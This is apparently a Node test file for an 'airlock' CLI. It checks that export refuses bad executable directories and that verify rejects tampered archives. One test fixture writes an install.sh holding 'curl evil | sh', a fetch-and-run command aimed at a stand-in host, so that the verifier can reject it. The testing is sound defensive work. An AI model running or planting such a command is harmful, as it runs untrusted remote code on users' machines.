// export --include-airlock through the built CLI (dist/), with --airlock-dir: the executables here are small ELF
// files with the right header (real x86-64 / AArch64 e_machine values), which is all export checks besides
// SHA256SUMS; test/package.test.ts carries the real executables from the real build. verify's strict entry check is
// attacked with archives edited entry by entry (test/support/hostile).
import assert from 'node:assert/strict'
import {createHash} from 'node:crypto'
import {existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {after, before, describe, it} from 'node:test'
import {Archive} from './support/hostile/base.ts'
import {standardLayout} from './support/layouts.ts'
import {runCli, runCliJson} from './support/cli.ts'

const ROOT = new URL('..', import.meta.url).pathname
const VERSION = (JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as {version: string}).version
const work = mkdtempSync(join(tmpdir(), 'airlock-include-'))
const hex = (b: Buffer) => createHash('sha256').update(b).digest('hex')
const name = (platform: string) => `airlock-${VERSION}-linux-${platform}`

/** A minimal ELF64 little-endian header for `machine` (62 x86-64, 183 AArch64) followed by some bytes. */
function fakeElf(machine: number, fill: string): Buffer {
  const head = Buffer.alloc(64)
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]).copy(head)
  head.writeUInt16LE(2, 16)
  head.writeUInt16LE(machine, 18)
  return Buffer.concat([head, Buffer.from(fill.repeat(1000))])
}

const airlock = (...args: string[]) => runCli(args, {cwd: work})

function makeDir(dir: string, files: Record<string, Buffer>, sums = true): string {
  mkdirSync(dir, {recursive: true})
  for (const [n, b] of Object.entries(files)) writeFileSync(join(dir, n), b, {mode: 0o755})
  if (sums)
    writeFileSync(
      join(dir, 'SHA256SUMS'),
      Object.keys(files)
        .filter(n => !n.endsWith('.json'))
        .sort()
        .map(n => `${hex(files[n]!)}  ${n}\n`)
        .join(''),
    )
  return dir
}

const amd64 = fakeElf(62, 'amd64 executable ')
const arm64 = fakeElf(183, 'arm64 executable ')
const bundle = Buffer.from(
  JSON.stringify({
    mediaType: 'application/vnd.dev.sigstore.bundle+json;version=0.2',
    note: 'a bundle as the build writes it',
  }),
)
const source = `oci:${join(work, 'layout')}:example.com/test/single:1.0`

before(async () => {
  await standardLayout(join(work, 'layout'))
})
after(() => rmSync(work, {recursive: true, force: true}))

describe('export --include-airlock', () => {
  const good = makeDir(join(work, 'good'), {
    [name('amd64')]: amd64,
    [name('arm64')]: arm64,
    [`${name('amd64')}.sigstore.json`]: bundle,
  })

  it('carries both executables (and the bundle next to one) under airlock/; inspect lists them; verify checks them', async () => {
    const r = await airlock(
      'export',
      '--no-tuf',
      '--signatures',
      'skip',
      '-o',
      'with-airlock.tar',
      '--include-airlock',
      '--airlock-dir',
      good,
      source,
    )
    assert.equal(r.status, 0, r.stderr)
    assert.match(
      r.stderr,
      new RegExp(
        `carrying airlock/${name('amd64')} \\(${amd64.length} bytes, sha256:${hex(amd64)}\\) and its Sigstore bundle`,
      ),
    )
    const archive = Archive.parse(readFileSync(join(work, 'with-airlock.tar')))
    assert.deepEqual(archive.get(`airlock/${name('amd64')}`), amd64)
    assert.deepEqual(archive.get(`airlock/${name('arm64')}`), arm64)
    assert.deepEqual(archive.get(`airlock/${name('amd64')}.sigstore.json`), bundle)
    const files = archive.json('airlock.json').files as Record<string, {digest: string; size: number}>
    assert.deepEqual(files[`airlock/${name('arm64')}`], {digest: `sha256:${hex(arm64)}`, size: arm64.length})
    const inspected = await runCliJson<{airlockExecutables: unknown}>(['inspect', 'with-airlock.tar'], {cwd: work})
    assert.equal(inspected.status, 0, inspected.stderr)
    assert.deepEqual(inspected.json.airlockExecutables, [
      {entry: `airlock/${name('amd64')}`, size: amd64.length, digest: `sha256:${hex(amd64)}`},
      {entry: `airlock/${name('amd64')}.sigstore.json`, size: bundle.length, digest: `sha256:${hex(bundle)}`},
      {entry: `airlock/${name('arm64')}`, size: arm64.length, digest: `sha256:${hex(arm64)}`},
    ])
    assert.match(
      (await airlock('inspect', 'with-airlock.tar')).stdout,
      new RegExp(`^airlock: airlock/${name('arm64')} `, 'm'),
    )
    const verified = await airlock('verify', 'with-airlock.tar', '--signatures', 'skip')
    assert.equal(verified.status, 0, verified.stderr)
  })

  it('--airlock-platform carries only the named one', async () => {
    const r = await airlock(
      'export',
      '--no-tuf',
      '--signatures',
      'skip',
      '-o',
      'amd64-only.tar',
      '--include-airlock',
      '--airlock-dir',
      good,
      '--airlock-platform',
      'amd64',
      source,
    )
    assert.equal(r.status, 0, r.stderr)
    const names = Archive.parse(readFileSync(join(work, 'amd64-only.tar')))
      .entries.map(e => String(e.name))
      .filter(n => n.startsWith('airlock/'))
    assert.deepEqual(names.sort(), [`airlock/${name('amd64')}`, `airlock/${name('amd64')}.sigstore.json`])
  })

  const refuse = (label: string, dir: string, expected: RegExp) =>
    it(`refuses before any download: ${label}`, async () => {
      // the source is a registry nobody listens on: reaching it would be a network error, not this one
      const r = await airlock(
        'export',
        '127.0.0.1:9/x/y:1',
        '--no-tuf',
        '--signatures',
        'skip',
        '-o',
        'refused.tar',
        '--include-airlock',
        '--airlock-dir',
        dir,
        '--insecure-registry',
        '127.0.0.1:9',
      )
      assert.notEqual(r.status, 0)
      const lines = r.stderr.trim().split('\n')
      assert.match(lines[0]!, expected)
      assert.ok(lines.length <= 2, r.stderr)
      assert.doesNotMatch(r.stderr, /ECONNREFUSED|NETWORK/)
      assert.equal(existsSync(join(work, 'refused.tar')), false)
    })
  refuse(
    'a missing platform executable',
    makeDir(join(work, 'only-amd64'), {[name('amd64')]: amd64}),
    new RegExp(`^airlock: error: --include-airlock: no arm64 executable ${name('arm64')} in `),
  )
  refuse(
    'a damaged copy (SHA256SUMS differs)',
    (() => {
      const dir = makeDir(join(work, 'damaged'), {[name('amd64')]: amd64, [name('arm64')]: arm64})
      writeFileSync(join(dir, name('arm64')), fakeElf(183, 'ARM64 executable '))
      return dir
    })(),
    /^airlock: error: --include-airlock: .* has sha256 [0-9a-f]{64}, SHA256SUMS says [0-9a-f]{64} \(a damaged copy\?\)/,
  )
  refuse(
    'an executable for the wrong platform',
    makeDir(join(work, 'swapped'), {[name('amd64')]: arm64, [name('arm64')]: amd64}),
    /is not a linux\/amd64 ELF executable/,
  )
  refuse(
    'a file SHA256SUMS does not list',
    (() => {
      const dir = makeDir(join(work, 'unlisted'), {[name('amd64')]: amd64})
      writeFileSync(join(dir, name('arm64')), arm64)
      return dir
    })(),
    new RegExp(`${name('arm64')} is not listed in`),
  )

  it('refuses without --airlock-dir when airlock is not the single-file executable', async () => {
    const r = await airlock('export', '--no-tuf', '-o', 'refused.tar', '--include-airlock', source)
    assert.equal(r.status, 2)
    assert.match(r.stderr, /^airlock: error: --include-airlock: this airlock is not the single-file executable/)
  })
})

describe('verify accepts exactly the airlock executables under airlock/', () => {
  let base: Archive
  before(() => {
    base = Archive.parse(readFileSync(join(work, 'with-airlock.tar')))
  })
  const attack = (label: string, edit: (a: Archive) => void, expected: RegExp) =>
    it(label, async () => {
      const a = base.clone()
      edit(a)
      const file = join(work, `attack-${label.replace(/\W+/g, '-')}.tar`)
      writeFileSync(file, a.toTar())
      const r = await airlock('verify', file, '--signatures', 'skip')
      assert.equal(r.status, 1, r.stdout + r.stderr)
      assert.match(r.stdout + r.stderr, expected)
    })
  const listFile = (a: Archive, path: string, body: Buffer) => {
    a.set(path, body)
    const doc = a.json('airlock.json')
    doc.files[path] = {digest: `sha256:${hex(body)}`, size: body.length}
    a.set('airlock.json', Buffer.from(JSON.stringify(doc)))
  }
  attack(
    'another file under airlock/, listed in airlock.json',
    a => listFile(a, 'airlock/install.sh', Buffer.from('curl evil | sh\n')),
    /airlock\/install\.sh.*only airlock executables/,
  )
  attack(
    'an executable name for another OS',
    a => listFile(a, `airlock/airlock-${VERSION}-darwin-arm64`, amd64),
    /only airlock executables/,
  )
  attack(
    'a nested path under the executable name',
    a => listFile(a, `airlock/${name('amd64')}/x`, amd64),
    /only airlock executables/,
  )
  attack(
    'an executable that airlock.json does not list',
    a => {
      a.set(`airlock/airlock-9.9.9-linux-amd64`, amd64)
    },
    /unexpected entry airlock\/airlock-9\.9\.9-linux-amd64: not listed in airlock\.json/,
  )
  attack(
    'an executable whose bytes differ from airlock.json',
    a => {
      a.set(`airlock/${name('arm64')}`, fakeElf(183, 'swapped payload! '))
    },
    new RegExp(`airlock/${name('arm64')} does not match airlock\\.json`),
  )
  attack(
    'a listed executable that is missing',
    a => {
      a.remove(`airlock/${name('amd64')}`)
    },
    new RegExp(`airlock/${name('amd64')} is listed in airlock\\.json but missing`),
  )
})
